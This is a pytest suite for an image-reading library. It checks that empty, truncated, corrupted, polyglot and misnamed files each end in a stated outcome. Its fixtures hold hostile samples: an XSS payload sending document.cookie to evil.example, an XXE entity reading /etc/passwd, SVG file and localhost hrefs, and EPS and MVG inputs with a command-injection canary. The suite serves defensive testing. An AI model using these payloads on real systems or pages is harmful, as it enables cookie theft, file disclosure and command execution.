"""Files and bytes: empty, cut, flipped, disguised and double files end as stated, and only so."""

import gzip
import io
import pickle
import random
import subprocess
import sys
import zipfile
from collections.abc import Callable

import numpy as np
import pytest
from bad_inputs import exifs, jpegs, pictures, pngs, tiffs
from bad_inputs.outcomes import outcome
from PIL import Image

from pix2pix.images import encode, read

pytestmark = pytest.mark.filterwarnings("error")

GRAY = pictures.gray()
JPEG = pictures.encoded(GRAY, "JPEG", quality=90)
PNG = pictures.encoded(GRAY, "PNG")
PAYLOAD = b"<script>fetch('//evil.example/'+document.cookie)</script>" * 3
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/tmp/canary) (w) file\nshowpage\n"
XXE = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9">&x;%b</svg>'
HREF = b'<image href="http://127.0.0.1:9/a.png"/><image href="file:///etc/passwd"/>'


@pytest.fixture(autouse=True)
def silent(capfd: pytest.CaptureFixture[str]):
    """Neither Python nor a C library may write a word to the terminal."""
    yield
    captured = capfd.readouterr()
    assert captured.err == "" and captured.out == ""


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("payload.html", PAYLOAD)
    return buffer.getvalue()


def _bad_checksum() -> bytes:
    end = PNG.index(b"IEND") - 4
    return PNG[: end - 2] + bytes([PNG[end - 2] ^ 1]) + PNG[end - 1 :]


CASES: dict[str, tuple[Callable[[], bytes], str]] = {
    "zero-byte": (lambda: b"", "unreadable"),
    "one byte": (lambda: b"\xff", "unreadable"),
    "SOI only": (lambda: b"\xff\xd8", "unreadable"),
    "three bytes of JPEG": (lambda: b"\xff\xd8\xff", "unreadable"),
    "SOI and EOI": (lambda: b"\xff\xd8\xff\xd9", "corrupt"),
    "PNG bad CRC": (_bad_checksum, "corrupt"),
    "JPEG + trailing junk": (lambda: JPEG + random.Random(0).randbytes(5000), "OK"),
    "junk before SOI": (lambda: b"junk" + JPEG, "unsupported_format"),
    "two JPEGs concatenated": (lambda: JPEG + pictures.encoded(255 - GRAY, "JPEG"), "OK"),
    "JPEG/ZIP polyglot": (lambda: JPEG + _zip(), "OK"),
    "JPEG/HTML polyglot": (lambda: jpegs.with_segment(JPEG, 0xFE, PAYLOAD) + PAYLOAD, "OK"),
    "PNG/PDF polyglot": (
        lambda: pngs.with_chunk(PNG, b"tEXt", b"Comment\0%PDF-1.7" + PAYLOAD) + PAYLOAD,
        "OK",
    ),
    "HTML named .jpg": (lambda: b"<!DOCTYPE html><html></html>", "unsupported_format"),
    "text named .jpg": (lambda: b"Dear reader, this is no photograph.", "unsupported_format"),
    "text that begins with BM": (lambda: b"BMW builds cars, not bitmaps.", "unsupported_format"),
    "ZIP named .jpg": (_zip, "unsupported_format"),
    "gzip named .jpg": (lambda: gzip.compress(JPEG), "unsupported_format"),
    "ELF named .jpg": (lambda: b"\x7fELF\x02\x01\x01" + bytes(200), "unsupported_format"),
    "pickle named .jpg": (lambda: pickle.dumps({"a": 1}), "unsupported_format"),
    "PDF": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "unsupported_format"),
    "SVG with http and file href": (lambda: SVG % HREF, "unsupported_format"),
    "SVG with XXE": (lambda: XXE + SVG % b"", "unsupported_format"),
    "EPS named .jpg": (lambda: EPS, "unsupported_format"),
    "EPS with a preview": (lambda: b"\xc5\xd0\xd3\xc6" + bytes(26) + EPS, "unsupported_format"),
    "MVG": (
        lambda: b"push graphic-context\nfill 'url(https://127.0.0.1/\"|touch /tmp/canary\")'\n",
        "unsupported_format",
    ),
    "MSL": (
        lambda: b'<?xml version="1.0"?><image><read filename="a"/></image>',
        "unsupported_format",
    ),
    "video": (lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(90), "unsupported_format"),
    "random 4 KB": (lambda: b"\x01" + random.Random(1).randbytes(4095), "unsupported_format"),
    "JPEG 2000": (lambda: pictures.encoded(GRAY, "JPEG2000"), "OK"),
    "JPEG XL": (lambda: b"\0\0\0\x0cJXL \r\n\x87\n" + bytes(60), "unsupported_format"),
    "PPM": (lambda: pictures.encoded(GRAY, "PPM"), "OK"),
    "TGA": (lambda: pictures.encoded(GRAY, "TGA"), "unsupported_format"),
}


@pytest.mark.parametrize("case", CASES)
def test_stated_outcome(case: str):
    build, expected = CASES[case]
    found = outcome(build())
    assert found.code == expected, found.reason
    if expected == "OK" and found.photo is not None:
        assert np.abs(found.photo.rgb[..., 0].astype(int) - GRAY).mean() < 3  # the first picture
        copy = encode(found.photo.rgb, like=found.photo, model="test")
        assert PAYLOAD[:20] not in copy and b"PDF" not in copy and b"PK\x03\x04" not in copy


CUT = {
    "JPEG": JPEG,
    "progressive JPEG": pictures.encoded(GRAY, "JPEG", progressive=True),
    "PNG": PNG,
    "color PNG": pictures.encoded(pictures.rgb(), "PNG"),
    "GIF": pictures.encoded(GRAY, "GIF"),
    "WebP": pictures.encoded(GRAY, "WEBP"),
    "lossless WebP": pictures.encoded(GRAY, "WEBP", lossless=True),
    "TIFF": pictures.encoded(GRAY, "TIFF"),
    "LZW TIFF": pictures.encoded(GRAY, "TIFF", compression="tiff_lzw"),
    "BMP": pictures.encoded(GRAY, "BMP"),
    "AVIF": pictures.encoded(GRAY, "AVIF"),
    "JPEG 2000": pictures.encoded(GRAY, "JPEG2000"),
    "PNM": pictures.encoded(GRAY, "PPM"),
}


@pytest.mark.slow
@pytest.mark.parametrize("percent", [10, 50, 90, 99])
@pytest.mark.parametrize("name", CUT)
def test_cut_files_are_truncated(name: str, percent: int):
    whole = CUT[name]
    assert outcome(whole).code == "OK"
    found = outcome(whole[: len(whole) * percent // 100])
    assert found.code == "truncated", found.reason


@pytest.mark.parametrize("percent", [50, 90])
def test_a_truncated_jpeg_is_read_on_request(percent: int):
    found = outcome(JPEG[: len(JPEG) * percent // 100], allow_truncated=True)
    assert found.code == "OK" and found.photo is not None
    assert any("ends early" in warning for warning in found.photo.warnings)
    rows = len(GRAY) // 4
    assert np.abs(found.photo.rgb[:rows, :, 0].astype(int) - GRAY[:rows]).mean() < 3
    assert outcome(JPEG[: len(JPEG) // 2]).code == "truncated"  # the request ends with its call


def test_nothing_but_a_header_is_truncated_even_on_request():
    assert outcome(JPEG[:60], allow_truncated=True).code == "truncated"


@pytest.mark.parametrize("name", ["JPEG", "progressive JPEG"])
def test_one_flipped_bit_in_the_scan_is_ok_or_corrupt(name: str):
    whole, generator = CUT[name], random.Random(2)
    start = whole.index(b"\xff\xda") + 12
    for _ in range(60):
        data = bytearray(whole)
        data[generator.randrange(start, len(whole) - 2)] ^= 1 << generator.randrange(8)
        assert outcome(bytes(data)).code in ("OK", "corrupt")


@pytest.mark.slow
@pytest.mark.parametrize("name", CUT)
def test_damage_anywhere_ends_in_an_outcome(name: str):
    """Two hundred damaged copies a format; read alone, since the outcome is what matters here."""
    from pix2pix.errors import PhotoError

    whole, generator = CUT[name], random.Random(3)
    for _ in range(200):
        data = bytearray(whole)
        for _ in range(generator.choice([1, 3, 20])):
            data[generator.randrange(len(data))] = generator.randrange(256)
        try:
            photo = read(bytes(data), max_pixels=10_000_000)
        except PhotoError:
            continue
        assert photo.rgb.dtype == np.uint8


def test_the_content_decides_not_the_name(tmp_path):
    for name in ("picture.jpg", "picture", "picture.tif"):
        (tmp_path / name).write_bytes(PNG)
        photo = read(tmp_path / name)
        assert photo.format == "PNG" and (photo.rgb[..., 0] == GRAY).all()


def test_pillow_opens_nothing_beyond_the_allowlist(monkeypatch):
    """No other plugin is asked, so Ghostscript, delegates and the network stay out of reach."""
    asked = []
    original = Image.open

    def spy(fp, mode="r", formats=None):
        asked.append(formats)
        return original(fp, mode, formats)

    monkeypatch.setattr(Image, "open", spy)
    for build, _ in CASES.values():
        outcome(build())
    ours = [formats for formats in asked if formats is not None]
    assert ours and all(len(formats) == 1 for formats in ours)
    assert {formats[0] for formats in ours} <= {"JPEG", "JPEG2000", "PNG"}


def test_an_error_names_its_path_in_one_line(tmp_path):
    path = tmp_path / "broken.jpg"
    path.write_bytes(JPEG[:300])
    with pytest.raises(Exception, match="truncated") as caught:
        read(path)
    assert str(caught.value).startswith(f"{path}: truncated: ")
    assert "\n" not in str(caught.value)


READER = """
import sys
from pix2pix.errors import PhotoError
from pix2pix.images import read
for path in sys.argv[1:]:
    try:
        read(path)
    except PhotoError as error:
        print(error.code)
"""


def test_broken_files_print_nothing_of_their_own(tmp_path):
    """Pillow logs and libtiff prints where nobody has set up logging, as in a plain script."""
    lzw = bytearray(pictures.encoded(GRAY, "TIFF", compression="tiff_lzw"))
    lzw[100:140] = bytes(range(40))
    (tmp_path / "lzw.tif").write_bytes(lzw)
    (tmp_path / "samples.tif").write_bytes(tiffs.tiff(GRAY, more=[tiffs.short(277, 60_000)]))
    exif = jpegs.with_segment(JPEG, 0xE1, exifs.endless_count())
    (tmp_path / "exif.jpg").write_bytes(exif)
    command = [sys.executable, "-W", "always", "-c", READER, *map(str, sorted(tmp_path.iterdir()))]
    found = subprocess.run(command, capture_output=True, text=True)
    assert found.stdout.split() == ["corrupt", "corrupt"] and found.stderr == ""
